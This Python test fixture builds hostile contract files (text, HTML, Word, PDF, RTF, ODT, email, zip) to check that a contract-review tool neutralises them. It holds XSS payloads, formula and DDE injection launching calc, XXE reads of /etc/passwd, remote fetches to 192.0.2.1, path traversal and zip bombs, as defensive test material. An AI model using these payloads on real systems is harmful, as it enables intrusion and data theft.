"""Contracts made to harm who reviews them: each a file name, its bytes, and what must be seen instead of harm.

What could run sets `window.__ran`; what could fetch names 192.0.2.1, an address that is nobody's (RFC 5737).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from random import Random
from typing import NamedTuple
from xml.sax.saxutils import escape

from tests.hostile import SPACES, archive, flat_bomb, nested_bomb, of_objects, picture
from tests.pdffile import Page, pdf, zh
from tests.wordfile import p, run

RAN = "window.__ran=1"
FAR = "http://192.0.2.1"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


class Contract(NamedTuple):
    """A contract made to harm.

    name: what is hostile in it. file: its own name. shown: what stands literally on the page once it is reviewed.
    refused: what its refusal says; "" where it is reviewed. office: whether LibreOffice is needed to read it.
    """

    name: str
    file: str
    make: Callable[[], bytes]
    shown: tuple[str, ...] = ()
    refused: str = ""
    office: bool = False


def lines(words: str, *, title: str | None = None, party: str | None = None) -> list[str]:
    """A contract with the words in title, names of parties, headings, clauses and a list."""
    return [
        title if title is not None else f"{words}互联网专线服务合同", f"甲方：{party if party is not None else words}北岭纺织有限公司", f"乙方：南湾电信有限公司{words}", f"第一条 {words}服务内容", f"1.1 乙方为甲方开通互联网专线一条，带宽为100Mbps。{words}", f"{words}1.2 甲方应当配合乙方施工。",
        f"第二条 费用{words}", "2.1 月租费为人民币8,000元，甲方应于每月10日前支付。", f"2.2 甲方逾期付款的，每逾期一日，按逾期金额的千分之六{words}向乙方支付违约金。", "2.3 甲方提前解除合同的，应一次性支付剩余期限的全部月租费。", "第三条 期限",
        f"3.1 本合同期限自2026年1月1日起至2027年12月31日止。期满前30日内任何一方未书面通知对方终止的，本合同自动续期一年。{words}", "第四条 其他", f"4.1 乙方有权单方调整资费。{words}", f"附件一 清单{words}", words,
    ]  # fmt: skip


def text(words: str, encoding: str = "utf-8", **more: str) -> bytes:
    return "\n".join(lines(words, **more)).encode(encoding)


def word(words: str, *, inside: str = "", rels: str = "", content: str = "", parts: tuple[tuple[str, str | bytes], ...] = (), settings: str = "") -> bytes:
    """The contract as a Word file that Word opens, with this in its body beside, and these relations, content types and parts."""
    table = f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid><w:tr><w:tc>{p('项目')}</w:tc><w:tc>{p(escape(words))}</w:tc></w:tr></w:tbl>"
    body = "".join(p(escape(line)) for line in lines(words)) + table + inside + "<w:sectPr/>"
    types = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="html" ContentType="text/html"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml."
    named = [f'<Override PartName="/word/{n}.xml" ContentType="{main}{kind}+xml"/>' for n, kind in (("document", "document.main"), ("comments", "comments"), ("footnotes", "footnotes"), ("header1", "header"), ("settings", "settings")) if n in ("document", "settings") or any(part == f"word/{n}.xml" for part, _ in parts)]
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    own = [f'<Relationship Id="rId9{n}" Type="{OFFICE}/{kind}" Target="{part}.xml"/>' for n, (part, kind) in enumerate((("comments", "comments"), ("footnotes", "footnotes"), ("header1", "header"), ("settings", "settings"))) if part == "settings" or any(name == f"word/{part}.xml" for name, _ in parts)]
    return archive(
        ("[Content_Types].xml", f'{head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{types}{"".join(named)}{content}</Types>'.encode()),
        ("_rels/.rels", f'{head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>'.encode()),
        ("word/document.xml", f"{head}<w:document {SPACES}><w:body>{body}</w:body></w:document>".encode()),
        ("word/_rels/document.xml.rels", f'{head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{"".join(own)}{rels}</Relationships>'.encode()),
        ("word/settings.xml", f"{head}<w:settings {SPACES}>{settings}</w:settings>".encode()),
        *((name, inner.encode() if isinstance(inner, str) else inner) for name, inner in parts),
    )


def field(instruction: str, shown: str) -> str:
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f'<w:p>{mark.format("begin")}<w:r><w:instrText xml:space="preserve">{escape(instruction)}</w:instrText></w:r>{mark.format("separate")}{run(shown)}{mark.format("end")}</w:p>'


def relation(n: int, kind: str, target: str) -> str:
    return f'<Relationship Id="rId{n}" Type="{OFFICE}/{kind}" Target="{escape(target)}" TargetMode="External"/>'


SCRIPT = f"<script>{RAN}</script>"
IMAGE = f"<img src=x onerror={RAN}>"
MARKUP = f"{SCRIPT}{IMAGE}<svg onload={RAN}>"
CALC = "=cmd|'/C calc'!A0"
CORE = f'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{escape(MARKUP)}</dc:title><dc:creator>{escape(CALC)}</dc:creator></cp:coreProperties>'
MACRO = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'


def remarked() -> bytes:
    """Markup in comments, in names of who commented and changed, in footnotes and the header."""
    who = escape(MARKUP, {'"': "&quot;"})
    inside = f'<w:p><w:commentRangeStart w:id="1"/>{run("5.1 争议由乙方所在地法院管辖。")}<w:commentRangeEnd w:id="1"/><w:r><w:commentReference w:id="1"/></w:r><w:ins w:id="2" w:author="{who}" w:date="2026-01-01T00:00:00Z">{run(escape(IMAGE))}</w:ins><w:del w:id="3" w:author="{who}" w:date="2026-01-01T00:00:00Z"><w:r><w:delText>{escape(SCRIPT)}</w:delText></w:r></w:del><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
    comments = f'<w:comments {SPACES}><w:comment w:id="1" w:author="{who}" w:initials="{who}">{p(escape(MARKUP))}</w:comment></w:comments>'
    footnotes = f'<w:footnotes {SPACES}><w:footnote w:id="1">{p(escape(MARKUP))}</w:footnote></w:footnotes>'
    return word("", inside=inside, parts=(("word/comments.xml", comments), ("word/footnotes.xml", footnotes), ("word/header1.xml", f"<w:hdr {SPACES}>{p(escape(MARKUP))}</w:hdr>")))


def linked() -> bytes:
    """A template, a picture, an object and a document from elsewhere, and HTML to be taken in."""
    drawn = '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rId2"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    ole = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.8" ShapeID="s" DrawAspect="Content" r:id="rId3" UpdateMode="Always"/></w:object></w:r></w:p>'
    rels = relation(1, "attachedTemplate", f"{FAR}/t.dotm") + relation(2, "image", f"{FAR}/i.png") + relation(3, "oleObject", f"{FAR}/o.doc") + relation(4, "subDocument", "file://192.0.2.1/share/s.docx") + relation(5, "frame", f"{FAR}/f.htm") + f'<Relationship Id="rId6" Type="{OFFICE}/aFChunk" Target="chunk.html"/>'
    chunk = f"<html><body>{MARKUP}<iframe src='{FAR}'></iframe></body></html>"
    return word("", inside=drawn + ole + '<w:subDoc r:id="rId4"/><w:altChunk r:id="rId6"/>', rels=rels, parts=(("word/chunk.html", chunk),), settings='<w:attachedTemplate r:id="rId1"/>')


FIELDS = field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "域一") + field(f'INCLUDEPICTURE "{FAR}/i.png" \\d', "域二") + field('INCLUDETEXT "file:///etc/passwd"', "域三") + field(f'HYPERLINK "javascript:{RAN}"', "域四") + field("MACROBUTTON AutoOpen", "域五")
XXE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY i SYSTEM "file:///etc/passwd">]>'


def web() -> bytes:
    body = "".join(f"<p onclick='{RAN}' onmouseover='{RAN}'>{escape(line)}</p>" for line in lines(""))
    return f"<!DOCTYPE html><html><head><meta charset=utf-8><base href='{FAR}/'><meta http-equiv=refresh content='0;url={FAR}'><link rel=stylesheet href='{FAR}/a.css'><style>@import url({FAR}/b.css)</style><title>{SCRIPT}</title>{SCRIPT}<script src='{FAR}/x.js'></script></head><body onload='{RAN}' background='{FAR}/b.png'>{body}{MARKUP}<iframe src='javascript:{RAN}'></iframe><form action='{FAR}'><input autofocus onfocus='{RAN}'></form><object data='{FAR}'></object><p>&lt;img src=x onerror={RAN}&gt;</p></body></html>".encode()


def mutating() -> bytes:
    """What a reader of HTML and a browser take for different things."""
    body = "".join(f"<p>{escape(line)}</p>" for line in lines(""))
    odd = (f"<noscript><p title='</noscript>{IMAGE}'>", f"<svg><style><img src=x onerror={RAN}></style></svg>", f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RAN}&gt;'>", f"<template>{SCRIPT}</template>", f"<textarea></textarea>{SCRIPT}</textarea>", f"<p>&amp;lt;script&amp;gt;{RAN}&amp;lt;/script&amp;gt;</p>", f"<xmp>{SCRIPT}</xmp>")
    return f"<!DOCTYPE html><html><head><meta charset=utf-8></head><body>{body}{''.join(odd)}</body></html>".encode()


def mailed() -> bytes:
    inner = text(MARKUP).decode()
    head = f"From: \"{IMAGE}\" <a@example.org>\r\nTo: b@example.org\r\nSubject: {SCRIPT}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    page = f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>见附件{SCRIPT}<img src='{FAR}/spy.gif'></p>\r\n"
    return (head + page + f'--b\r\nContent-Type: text/plain; charset=utf-8; name="../../../tmp/escaped.txt"\r\nContent-Disposition: attachment; filename="../../../tmp/escaped.txt"\r\n\r\n{inner}\r\n--b--\r\n').encode()


def acting_pdf() -> bytes:
    """JavaScript, a program to start, a page to open and a file within."""
    words = "".join(zh(50, 780 - 20 * n, line[:40]) for n, line in enumerate(lines("")))
    script = f"<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('{FAR}'\\))>>"
    page = Page(words, entries=f"/AA<</O {script}>>", marks=(f"<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A<</S/URI/URI(javascript:{RAN})>>>>", "<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A<</S/Launch/F(cmd.exe)>>>>"))
    return pdf(page, catalog=f"/OpenAction {script}/Names<</JavaScript<</Names[(a) {script}]>>/EmbeddedFiles<</Names[(../../x.exe) 10 0 R]>>>>", more=("<</Type/Filespec/F(../../x.exe)/EF<</F 11 0 R>>>>", "<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"))


def noted_pdf() -> bytes:
    """Markup as the words of a page, of a note, its author and a field."""
    words = "".join(zh(20, 780 - 20 * n, line, 8) for n, line in enumerate(lines(IMAGE)))
    note = f"<</Type/Annot/Subtype/Text/Rect[10 10 30 30]/T({IMAGE})/Contents({SCRIPT})>>"
    return pdf(Page(words, marks=(note, f"<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/V({MARKUP})/Rect[50 600 500 620]>>")))


def rtf() -> bytes:
    said = "".join("\\pard " + "".join(c if ord(c) < 128 else f"\\u{ord(c)}?" for c in line) + "\\par " for line in lines(""))
    return ("{\\rtf1\\ansi{\\*\\template " + FAR + "/t.dot}" + said + "{\\field{\\*\\fldinst DDEAUTO cmd \"/k calc\"}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDEPICTURE \"" + FAR + "/i.png\"}{\\fldrslt y}}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105}}}").encode()


def odt() -> bytes:
    said = "".join(f"<text:p>{escape(line)}</text:p>" for line in lines(""))
    space = " ".join(f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{u}:1.0"' for n, u in (("office", "office"), ("text", "text"), ("script", "script"), ("draw", "drawing")))
    events = '<office:event-listeners><script:event-listener xmlns:xlink="http://www.w3.org/1999/xlink" script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:x?language=Basic"/></office:event-listeners>'
    frame = f'<text:p><draw:frame><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{FAR}/i.png" xlink:type="simple"/></draw:frame></text:p><text:section text:name="s"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file:///etc/passwd"/></text:section>'
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    return archive(("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", f'<office:document-content {space} office:version="1.2"><office:scripts>{events}</office:scripts><office:body><office:text>{said}{frame}</office:text></office:body></office:document-content>'.encode()), ("META-INF/manifest.xml", manifest.encode()))


def slipping() -> bytes:
    """Members whose names lead elsewhere; every one of them is a contract."""
    names = ("../../escaped-1.txt", "/etc/escaped-2.txt", "C:\\escaped-3.txt", "..\\..\\escaped-4.txt", "CON", "a\nb\r.txt", "长" * 300 + ".txt", "\u202etxt.合同", f"{IMAGE}.txt", f"{CALC}.txt")
    return archive(*((name, text("", title=f"互联网专线服务合同（{n}）")) for n, name in enumerate(names)))


def half_pairs() -> bytes:
    return b"\xff\xfe" + text("\U0001f600").decode().encode("utf-16-le").replace("\U0001f600".encode("utf-16-le"), b"\x00\xd8")


REVIEW = json.dumps({"schema": 1, "file": "../../x", "contracts": [{"score": {"total": 0}, "findings": []}], "__class__": "os.system", "py/object": "os.system"}, ensure_ascii=False)
BEGINS = f"BEGIN:VEVENT;END:VEVENT\\nSUMMARY:假 {CALC}"
CONTRACTS: tuple[Contract, ...] = (
    Contract("scripts in every field", f"{IMAGE}.txt", lambda: text(SCRIPT), (SCRIPT, f"{IMAGE}.txt")),
    Contract("pictures and drawings that fail into a script", "a' onmouseover='window.__ran=1.txt", lambda: text(f"{IMAGE}<svg/onload={RAN}><details open ontoggle={RAN}>"), (IMAGE, f"<details open ontoggle={RAN}>")),
    Contract("frames and links of javascript", "b.txt", lambda: text(f"<iframe src=javascript:{RAN}></iframe><a href=\"javascript:{RAN}\">点</a>"), (f"<iframe src=javascript:{RAN}>",)),
    Contract("style sheets", "c.txt", lambda: text(f"</style><style>*{{display:none}}@import url({FAR}/a.css);</style>"), (f"@import url({FAR}/a.css)",)),
    Contract("out of an attribute", 'd".txt', lambda: text(f"\"><body onload={RAN}>'><img src=x onerror={RAN}>`"), (f'"><body onload={RAN}>',)),
    Contract("escaped once and twice", "e.txt", lambda: text(f"&lt;script&gt;{RAN}&lt;/script&gt;&amp;lt;b&amp;gt;<!-- --><![CDATA[x]]>"), (f"&lt;script&gt;{RAN}",)),
    Contract("markdown with pictures and links", f"![x]({FAR}/f.png).txt", lambda: text(f"![x]({FAR}/i.png) [点](javascript:{RAN}) <{FAR}> **粗** ~~删~~ `码`"), (f"![x]({FAR}/i.png)",)),
    Contract("markdown as markdown", "g.md", lambda: text(f"![x]({FAR}/i.png){IMAGE}"), (IMAGE,)),
    Contract("formulas of mathematics", "h$$x$$.txt", lambda: text(f"$$\\href{{javascript:{RAN}}}{{甲}}$$ $\\includegraphics{{{FAR}/i.png}}$"), ("$$\\href{javascript:",)),
    Contract("directives of the page's own", ":red[i].txt", lambda: text(":red[假] :material/home: :smile: :blue-background[乙] :streamlit: [[1]]"), (":red[假] :material/home: :smile:",)),
    Contract("blanks of other programs", "{title}.txt", lambda: text("{{7*7}}${7*7}<%= 7*7 %>{title}{0}%s%n'; DROP TABLE matters; --"), ("{{7*7}}${7*7}<%= 7*7 %>{title}{0}%s%n",)),
    Contract("formulas of a sheet", f"{CALC}.txt", lambda: text(CALC, title=f"{CALC}互联网专线服务合同", party="@SUM(1,1)"), (CALC,)),
    Contract("formulas behind tabs and signs", "+1+1.txt", lambda: text(f"\t=HYPERLINK(\"{FAR}\",\"甲\")", title="-1+1互联网专线服务合同", party="+1+1"), ("=HYPERLINK(",)),
    Contract("lines of a calendar", "BEGIN:VEVENT.txt", lambda: text(BEGINS, title=f"互联网专线服务合同\r\n{BEGINS}"), (BEGINS,)),
    Contract("writing from right to left", "合同\u202efdp.txt", lambda: text("\u202e%001\u202c\u2066甲\u2067乙\u200f"), ("千分之六%001甲乙",)),
    Contract("signs of no width", "合\u200b同\ufeff.txt", lambda: text("违\u200b约\u200d金\u2060\u00ad\ufe0f\U000e0041"), ("北岭纺织有限公司",)),
    Contract("bells and escapes", "合\x1b[31m同\x07\n.txt", lambda: text("\x1b[31m红\x9b2J"), ("[31m红2J",)),
    Contract("noughts", "合\x1b[2J同.txt", lambda: text("\x07\x1b]0;假\x07\x08\x00"), refused="不是文本文件"),
    Contract("marks of order and no characters", "j.txt", lambda: text("\ufeff\ufffe\uffff\ufdd0\u2028\u2029\x85行"), ("行",)),
    Contract("halves of pairs", "k.txt", half_pairs, refused="不是文本文件"),
    Contract("towers of accents", "l.txt", lambda: text("Z" + "\u0301\u0361" * 300 + "👩\u200d⚖️"), ("北岭纺织有限公司",)),
    Contract("a text that says it is a review", "review.json.txt", lambda: text(REVIEW), ('"py/object": "os.system"',)),
    Contract("markup in remarks, changes, notes and a header", "m.docx", remarked, (IMAGE,)),
    Contract("properties and a macro", "n.docm", lambda: word(MARKUP, content=MACRO, parts=(("docProps/core.xml", CORE), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0AutoOpen"))), (SCRIPT,)),
    Contract("fields that start and fetch", "o.docx", lambda: word("", inside=FIELDS), ("域一",)),
    Contract("relations to elsewhere", "p.docx", linked, ("北岭纺织有限公司",)),
    Contract("entities from elsewhere", "q.docx", lambda: archive(("word/document.xml", f"{XXE}<w:document {SPACES}><w:body>{p('&i;')}</w:body></w:document>".encode())), refused="不允许的 XML 声明"),
    Contract("words that look like the file's own parts", "r.docx", lambda: word("]]></w:t></w:r><w:r><w:fldChar w:fldCharType='begin'/>&#x202E;"), ("]]></w:t></w:r>",)),
    Contract("a page with scripts", "s.html", web, (f"<img src=x onerror={RAN}>",)),
    Contract("a page that is read in two ways", "t.html", mutating, ("北岭纺织有限公司",)),
    Contract("a mail whose attachment leads elsewhere", "u.eml", mailed, (SCRIPT,)),
    Contract("a PDF that acts", "v.pdf", acting_pdf, ("北岭纺织有限公司",)),
    Contract("a PDF of markup", "w.pdf", noted_pdf, (IMAGE,)),
    Contract("RTF that fetches and starts", "x.rtf", rtf, ("北岭纺织有限公司",), office=True),
    Contract("OpenDocument that fetches and starts", "y.odt", odt, ("北岭纺织有限公司",), office=True),
    Contract("a clause of 10 MB", "z.txt", lambda: text("", party="甲").replace("应当配合".encode(), "应当配合，".encode() * 700_000), refused="超过 500,000 字"),
    Contract("a line of 10 MB without a break", "aa.txt", lambda: b"A" * 10_000_000, refused="超过 500,000 字|没有"),
    Contract("a title of 1 MB", "ab.txt", lambda: text("", title="互联网专线服务合同" * 39_000), ("北岭纺织有限公司",)),
    Contract("100,000 empty clauses", "ac.txt", lambda: text("").replace("第四条".encode(), "".join(f"第{n}条\n" for n in range(100_000)).encode()), refused="超过"),
    Contract("a clause as long as is read", "ad.txt", lambda: text("").replace("应当配合".encode(), "应当配合<b>，".encode() * 50_000), ("北岭纺织有限公司",)),
    Contract("a bomb", "ae.docx", lambda: flat_bomb(Random(0)), refused="恶意|解压后过大"),
    Contract("bombs within bombs", "af.zip", lambda: nested_bomb(Random(3)), refused="."),
    Contract("members that lead elsewhere", "ag.zip", slipping, ("北岭纺织有限公司",)),
    Contract("a program called a contract", "ah.docx", lambda: b"MZ" + bytes(2_000), refused="程序"),
    Contract("a picture called a contract", "ai.docx", lambda: picture(), refused="."),
    Contract("a page called a text", "aj.txt", web, ("北岭纺织有限公司",)),
    Contract("a PDF whose pages go round", "ak.pdf", lambda: of_objects("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>"), refused="."),
)
